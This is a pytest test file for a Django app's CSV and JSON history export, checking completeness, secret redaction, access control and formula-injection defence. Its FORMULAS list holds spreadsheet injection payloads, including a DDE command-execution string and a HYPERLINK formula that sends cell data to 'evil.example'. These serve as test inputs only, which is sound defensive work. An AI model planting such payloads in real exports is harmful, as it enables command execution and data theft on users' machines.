"""The history as a file: whole or refused, without secrets, and no formula in a spreadsheet."""

from __future__ import annotations

import csv
import json
import re
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from studio.mixes.clouds import callbacks
from studio.mixes.history import rows
from studio.mixes.history.exports import COLUMNS
from studio.mixes.history.filter import OUTCOMES
from studio.mixes.models import State
from tests import builders
from tests.builders import Cast, client_for
from tests.mixes.history.past import moved, pushed, settled, stopped, taken
from tests.volcengine.bodies import CANARIES, document, mixed_rules

pytestmark = pytest.mark.usefixtures("data")
DOCUMENTED = Path(__file__).parents[3] / "docs" / "history.md"
FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=cmd|"/c calc"!A1',
    '=HYPERLINK("https://evil.example/?"&A1)',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\n=1",
]


@pytest.fixture
def client(cast: Cast) -> Client:
    return client_for(cast.viewer)


def text_of(client: Client, name: str, **asked: Any) -> str:
    answer = client.get(reverse(name), asked)
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="history-20')
    assert "no-store" in answer.headers["Cache-Control"]
    return b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]


def rows_of(client: Client, **asked: Any) -> list[dict[str, str]]:
    text = text_of(client, "history-csv", **asked)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(StringIO(text.removeprefix("\ufeff"), newline="")))


def json_of(client: Client, **asked: Any) -> list[dict[str, Any]]:
    value: list[dict[str, Any]] = json.loads(text_of(client, "history-json", **asked))
    return value


def test_a_file_has_every_operation_with_what_came_of_it(client: Client, cast: Cast) -> None:
    push = pushed(cast, builders.document(), request_id="R-1")
    taken(push, moved(builders.document(), 9), state=State.REFUSED, error_code="400")
    stopped(push)
    stop, take, first = rows_of(client)
    assert [row["kind"] for row in (stop, take, first)] == ["stop", "take", "push"]
    assert (take["number"], take["outcome"], take["code"]) == ("1", "refused", "400")
    assert take["changes"] == "source-1 moves from 0, 0 to 9, 0 px"
    assert (first["person"], first["request_id"]) == ("operator", "R-1")
    assert first["addresses"] == "rtmp://push.example.com/live/…"
    assert first["at"].endswith("+00:00")


def test_json_says_the_same_and_the_document(client: Client, cast: Cast) -> None:
    push = pushed(cast, builders.document())
    stopped(push)
    stop, first = json_of(client)
    told = rows_of(client)[1]
    assert {name: first[name] for name in ("at", "kind", "outcome", "id", "task_id")} == {
        name: told[name] for name in ("at", "kind", "outcome", "id", "task_id")
    }
    assert first["document"]["InputLayout"]["Scene"]["Width"] == 1920
    assert stop["document"] is None
    assert first["changes"] is None


def test_a_file_says_why_a_take_was_not_applied_and_what_was_in_trouble(
    client: Client, cast: Cast
) -> None:
    taken(
        pushed(cast),
        not_applied_at=timezone.now(),
        error_code="5001",
        error_message="no room",
        in_trouble=["host", "clip"],
    )
    told, _push = rows_of(client)
    assert (told["outcome"], told["code"], told["message"]) == ("not_applied", "5001", "no room")
    assert told["in_trouble"] == "host; clip"
    assert json_of(client)[0]["in_trouble"] == ["host", "clip"]


def test_a_file_has_what_the_filter_asks_for(client: Client, cast: Cast) -> None:
    taken(pushed(cast))
    assert [row["kind"] for row in rows_of(client, kind="take")] == ["take"]
    assert [row["kind"] for row in json_of(client, kind="take")] == ["take"]


def test_an_empty_file_is_a_file(client: Client) -> None:
    assert rows_of(client) == []
    assert json_of(client) == []


def test_a_long_file_is_read_in_parts_and_lacks_nothing(
    client: Client, cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(rows, "PART", 3)
    push = pushed(cast)
    for _number in range(8):
        taken(push)
    listed = rows_of(client)
    assert [row["number"] for row in listed] == ["8", "7", "6", "5", "4", "3", "2", "1", "1"]
    assert len(json_of(client)) == 9


@pytest.mark.parametrize("name", ["history-csv", "history-json"])
def test_what_is_too_long_is_refused_not_cut(
    client: Client, cast: Cast, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setattr(rows, "MOST_EXPORTED", 2)
    push = pushed(cast)
    taken(push)
    text_of(client, name)
    taken(push)
    answer = client.get(reverse(name))
    assert answer.status_code == 422
    assert "more than 2 operations" in answer.content.decode()


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula(client: Client, cast: Cast, formula: str) -> None:
    push = pushed(cast)
    settled(
        push, state=State.REFUSED, error_code=formula, error_message=formula, request_id=formula
    )
    push.task.__class__.objects.update(title=formula, name=formula, task_id=formula)
    cast.operator.__class__.objects.filter(pk=cast.operator.pk).update(username=formula)
    (row,) = rows_of(client)
    for name in ("task", "name", "task_id", "person", "message", "code", "request_id"):
        assert row[name] == f"'{formula}"


def test_what_separates_cells_and_rows_stays_inside_its_cell(client: Client, cast: Cast) -> None:
    title = 'a,"b"\r\nc;d\ne'
    push = pushed(cast)
    push.task.__class__.objects.update(title=title)
    assert [row["task"] for row in rows_of(client)] == [title]
    text = text_of(client, "history-csv")
    assert text.endswith("\r\n")
    assert '"a,""b""\r\nc;d\ne"' in text


@pytest.mark.parametrize("name", ["history-csv", "history-json"])
def test_no_file_holds_a_secret_for_any_role(cast: Cast, name: str, settings: Any) -> None:
    settings.PUBLIC_URL = "https://studio.example.com"
    rules = mixed_rules()
    rules["InputSource"][0]["Backup"] = "rtmp://b.example.com/live?token=SOURCECANARY"
    rules["Notes"] = {"StreamKey": "STREAMCANARY42"}
    push = pushed(cast, document(rules))
    taken(push, moved(document(rules), 5))
    stopped(push)
    token = callbacks.token_of(push.task.pk)
    for person in (cast.viewer, cast.editor, cast.operator, cast.owner):
        text = text_of(client_for(person), name)
        assert "push.example.com" in text
        assert [secret for secret in (*CANARIES, token) if secret in text] == []


@pytest.mark.parametrize("name", ["history-csv", "history-json"])
def test_a_stranger_s_file_has_nothing_of_ours(cast: Cast, name: str) -> None:
    pushed(cast, name="ours")
    assert "ours" not in text_of(client_for(cast.stranger), name)


@pytest.mark.parametrize("outcome", OUTCOMES)
def test_every_outcome_is_documented(outcome: str) -> None:
    assert f"`{outcome}`" in DOCUMENTED.read_text()


def test_every_key_is_documented(client: Client, cast: Cast) -> None:
    pushed(cast)
    documented = re.findall(r"^\| `(\w+)` \|", DOCUMENTED.read_text(), re.MULTILINE)
    assert list(json_of(client)[0]) == documented
    assert [name for name in documented if name != "document"] == list(COLUMNS)
